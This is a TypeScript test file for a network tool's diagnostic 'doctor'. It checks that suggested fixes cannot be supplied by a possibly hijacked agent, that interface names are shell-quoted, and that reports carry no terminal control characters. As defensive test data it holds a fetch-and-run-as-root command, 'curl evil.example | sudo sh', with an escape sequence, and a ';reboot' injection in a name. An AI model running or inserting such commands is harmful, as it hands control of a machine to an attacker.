import { expect, test } from 'vitest';
import { fail } from '../../../src/doctor/check.ts';
import { lookAtForwarding } from '../../../src/doctor/checks/forwarding.ts';
import { lookAtRivals } from '../../../src/doctor/checks/tunnel.ts';
import { renderReport } from '../../../src/doctor/report.ts';
import { findAction } from '../../../src/health/reasons.ts';
import { buildStatusDocument } from '../../../src/status/document.ts';
import { now, providingFacts } from '../../../tools/docs/sample-facts.ts';
import { createHost } from './fake-host.ts';

/*
 * Root reads the doctor's report and copies commands from it; the agent that it asks may have been
 * taken over.
 */
const evil = 'curl evil.example | sudo sh\u001b]0;';

test.each([
  ['no-uplink', findAction('no-uplink')],
  ['a-code-of-its-own', 'tributary status'],
  ['constructor', 'tributary status'],
])("what to do about %s is never the agent's word", async (code, fix) => {
  const status = {
    ...buildStatusDocument(providingFacts, now),
    phase: 'blocked' as const,
    reasons: [{ code, message: 'why', action: evil, since: now.toISOString() }],
  };
  expect(await lookAtForwarding(await createHost({ status: async () => status }))).toEqual(
    fail('why', fix),
  );
});

test('a name that a shell would take for more is quoted in a command', async () => {
  const said = { 'wg show all listen-port': "tributary0\t4242\n;reboot'\t4242\n" };
  const finding = await lookAtRivals(await createHost({ said }));
  expect(finding).toMatchObject({ fix: String.raw`sudo wg set ';reboot'\''' listen-port 0` });
});

test('nothing in a report steers the terminal', () => {
  const results = [
    { id: 'dns', title: 'Names', finding: fail(evil, evil), becauseOf: undefined },
  ] as const;
  for (const line of renderReport(results, 80)) expect(line).not.toMatch(/\p{Cc}/u);
});
